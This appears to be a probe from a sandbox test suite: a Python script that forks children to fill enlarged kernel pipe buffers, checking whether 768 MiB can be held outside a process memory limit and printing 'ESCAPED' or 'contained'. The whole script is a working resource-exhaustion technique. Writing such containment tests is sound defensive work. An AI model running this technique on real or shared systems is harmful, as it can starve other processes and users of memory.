# Attacks: the memory limit, by what the kernel holds for a process: pipes made as large as they may be, and filled.
# Needs a limit below 768 MiB. Success: 768 MiB wait in pipes. Unprotected: as root, whom no bound on pipes applies to.
import fcntl
import os
import sys

F_SETPIPE_SZ = 1031
block = b"x" * (1 << 20)
ready_r, ready_w = os.pipe()
go_r, go_w = os.pipe()
kids = 0
for _ in range(6):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.close(go_w)
        held = 0
        ends = []
        try:
            for _ in range(150):
                r, w = os.pipe()
                ends += [r, w]
                try:
                    fcntl.fcntl(w, F_SETPIPE_SZ, 1 << 20)
                except OSError:
                    pass
                os.set_blocking(w, False)
                try:
                    while True:
                        held += os.write(w, block)
                except BlockingIOError:
                    pass
        except OSError:
            pass
        os.write(ready_w, held.to_bytes(8, "little"))
        os.read(go_r, 1)
        os._exit(0)
    kids += 1
os.close(ready_w)
held = 0
for _ in range(kids):
    held += int.from_bytes(os.read(ready_r, 8), "little")
os.close(go_w)
for _ in range(kids):
    os.wait()
print(f"ESCAPED: {held >> 20} MiB in pipes" if held >= 768 << 20 else "contained")
sys.stdout.flush()
